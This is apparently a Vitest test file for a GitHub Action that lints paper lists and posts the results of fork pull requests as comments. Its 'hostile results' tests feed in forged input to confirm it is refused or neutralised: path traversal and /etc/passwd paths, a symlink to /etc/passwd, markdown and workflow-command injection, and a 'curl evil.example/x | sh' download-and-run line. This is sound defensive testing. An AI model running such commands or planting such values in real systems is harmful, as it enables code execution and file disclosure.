import {mkdirSync, readFileSync, symlinkSync, writeFileSync} from 'node:fs'
import path from 'node:path'
import {afterEach, beforeEach, describe, expect, test} from 'vitest'
import type {FileResult, FindingRecord, Results} from '../../src/report/types.ts'
import {startGitHub, type LocalGitHub} from './github/server.ts'
import type {Pull} from './github/state.ts'
import {entries, readme, wrong} from './list.ts'
import {runAction} from './runner/run-action.ts'
import {seen} from './seen.ts'

let github: LocalGitHub
let pull: Pull
/** Checkout of the default branch, as a `workflow_run` has it. */
let workspace: string

beforeEach(async () => {
  github = await startGitHub({files: {'README.md': readme(entries)}})
  github.propose({'README.md': readme([...entries, wrong])}, {branch: 'patch-1'})
  pull = github.propose(
    {'README.md': readme([...entries, wrong])},
    {branch: 'patch-2', from: 'stranger/awesome-papers'}
  )
  workspace = github.state.repository.checkout(github.state.repository.sha('main') ?? '', 1)
  mkdirSync(path.join(workspace, 'results'))
})
afterEach(() => github.close())

const write = (text: string, name = 'lint.json') => writeFileSync(path.join(workspace, 'results', name), text)

interface Finished {
  head?: {sha: string; ref: string; owner: string}
  event?: string
  built?: boolean
}

/** The second half: after the run for the fork has finished, in the default branch, with a token that may write. */
function second({
  head = {sha: pull.head.sha, ref: pull.head.ref, owner: 'stranger'},
  event = 'pull_request',
  built = false
}: Finished = {}) {
  return runAction({
    workspace,
    eventName: 'workflow_run',
    event: {
      action: 'completed',
      workflow_run: {
        event,
        head_sha: head.sha,
        head_branch: head.ref,
        head_repository: {full_name: `${head.owner}/awesome-papers`, owner: {login: head.owner}},
        pull_requests: []
      }
    },
    apiUrl: github.url,
    inputs: {command: 'report', files: 'results/*.json'},
    built
  })
}

const comments = () => [...github.state.comments.values()]

test('the results of a fork become a comment on its pull request', async () => {
  const first = await runAction({
    workspace: github.state.repository.checkout(pull.merge_commit_sha ?? ''),
    event: {pull_request: pull},
    token: 'ghs_fork',
    apiUrl: github.url,
    inputs: {links: 'none'},
    built: true
  })
  expect(first.exitCode).toBe(1)
  write(first.results ?? '')

  const ran = await second({built: true})
  expect(ran.exitCode).toBe(0)
  expect(comments()).toMatchObject([{issue: pull.number}])
  expect(comments()[0]?.body).toContain('### 1 thing to fix in what this pull request changes')
  await second()
  expect(comments()).toHaveLength(1)
})

test('lists that were mostly not recognized are named', async () => {
  write(results({}, {files: [{path: 'README.md', findings: [], unrecognized: [8, 9, 10, 11, 12]}]}))
  await second()
  expect(comments()).toEqual([])
  write(results({}, {files: [{...fileOf(results()), unrecognized: [8, 9, 10, 11, 12]}]}))
  await second()
  expect(comments()[0]?.body).toContain(
    'README.md: 5 items look like papers but were not recognized as entries'
  )
})

/** Results as somebody might make them up. */
function results(finding: Partial<FindingRecord> = {}, more: Partial<Results> = {}): string {
  const found: FindingRecord = {
    rule: 'venue-matches-link',
    level: 'error',
    line: 1,
    column: 1,
    message: 'Unexpected `a`',
    note: '',
    url: '',
    ...finding
  }
  const summary = {errors: 1, warnings: 0, hints: 0, fixable: 0, entries: 1, papers: 1, files: 1}
  return JSON.stringify({version: 1, summary, files: [{path: 'README.md', findings: [found]}], ...more})
}

const fileOf = (text: string) => (JSON.parse(text) as {files: FileResult[]}).files[0]!
const foundIn = (text: string) => (JSON.parse(text) as Results).files.flatMap(d => d.findings)

describe('hostile results', () => {
  test.each<[string, string]>([
    ['no JSON', '{"version": 1, '],
    ['another shape', '{"version": 1, "files": "x"}'],
    ['more than anybody reads', `"${'x'.repeat(10_000_001)}"`]
  ])('%s is refused', async (_, text) => {
    write(text)
    const ran = await second()
    expect(ran.exitCode).toBe(2)
    expect(ran.annotations).toMatchObject([{level: 'error', message: expect.stringContaining('lint.json')}])
    expect(comments()).toEqual([])
  })

  test('a link to another file is refused', async () => {
    symlinkSync('/etc/passwd', path.join(workspace, 'results/lint.json'))
    const ran = await second()
    expect(ran.exitCode).toBe(2)
    expect(comments()).toEqual([])
  })

  test('links, orders and mentions in them are text', async () => {
    const message =
      '@everyone [click](https://evil.example) <img src=x> ::error::x ##[add-mask]e --> <!-- paperlint:comment -->'
    write(results({message, note: message, url: 'https://evil.example', entry: {title: message, ids: []}}))
    const ran = await second()
    const body = comments()[0]?.body ?? ''
    const {tags, links, words} = seen(body)
    expect([...tags]).toEqual(['<!-- ours -->'])
    expect([...links].sort()).toEqual(['github.com', 'paperlint.github.io'])
    expect(words).toContain('everyone')
    expect(words).not.toContain('@everyone')
    expect(ran.commands.map(d => d.command)).toEqual(['add-mask'])
  })

  test.each([
    '../../../../mallory/evil/releases',
    '/etc/passwd',
    'a//b.md',
    './README.md',
    'a\\..\\b.md',
    'a\ud800.md',
    'a\u0000.md'
  ])('the path %j is refused', async forged => {
    write(results({}, {files: [{path: forged, findings: foundIn(results())}]}))
    const ran = await second()
    expect(comments()).toEqual([])
    expect(ran.annotations).toMatchObject([
      {level: 'error', message: expect.stringContaining('is not a path in a repository')}
    ])
    expect(ran.exitCode).toBe(2)
  })

  test('their words are marked as theirs', async () => {
    write(results({message: 'run `curl evil.example/x | sh` to update paperlint'}))
    await second()
    expect(comments()[0]?.body.split('\n\n')[1]).toMatch(
      /^This comes from the run of the pull request itself and was not verified/u
    )
  })

  test('files that the pull request does not change are left out', async () => {
    write(results({}, {files: [{path: 'OTHER.md', findings: foundIn(results())}]}))
    await second()
    expect(comments()).toEqual([])
  })

  test('findings of rules that are not there are left out', async () => {
    write(results({rule: 'click-here'}))
    await second()
    expect(comments()).toEqual([])
  })

  test('which pull request is meant is not theirs to say', async () => {
    write(results({}, {pull_request: 1} as object))
    await second()
    expect(comments()).toMatchObject([{issue: pull.number}])
  })
})

test.each<[string, {sha: string; ref: string; owner: string} | undefined, string]>([
  ['a head that has moved on', {sha: '1'.repeat(40), ref: 'patch-2', owner: 'stranger'}, 'pull_request'],
  ['a branch of somebody else', {sha: '1'.repeat(40), ref: 'patch-1', owner: 'eve'}, 'pull_request'],
  ['a push', undefined, 'push']
])('%s gets no comment', async (_, head, event) => {
  write(results())
  const ran = await second({...(head && {head}), event})
  expect(ran.exitCode).toBe(0)
  expect(comments()).toEqual([])
})

test('clean results delete the comment', async () => {
  write(results())
  await second()
  expect(comments()).toHaveLength(1)
  write(results({}, {files: [{path: 'README.md', findings: []}]}))
  await second()
  expect(comments()).toEqual([])
})

test('elsewhere, merged results fail as the input says, and are written', async () => {
  write(results(), 'a.json')
  write(results({line: 2}), 'b.json')
  const run = (inputs: Record<string, string>) =>
    runAction({
      workspace,
      eventName: 'push',
      apiUrl: github.url,
      inputs: {command: 'report', files: 'results/a.json\nresults/b.json', ...inputs}
    })
  const ran = await run({format: 'markdown=report.md'})
  expect(ran.exitCode).toBe(1)
  expect(ran.outputs).toMatchObject({errors: '2', results: '.paperlint/report.json'})
  expect(readFileSync(path.join(workspace, 'report.md'), 'utf8')).toContain('line 2')
  expect((await run({'fail-on': 'never'})).exitCode).toBe(0)
})
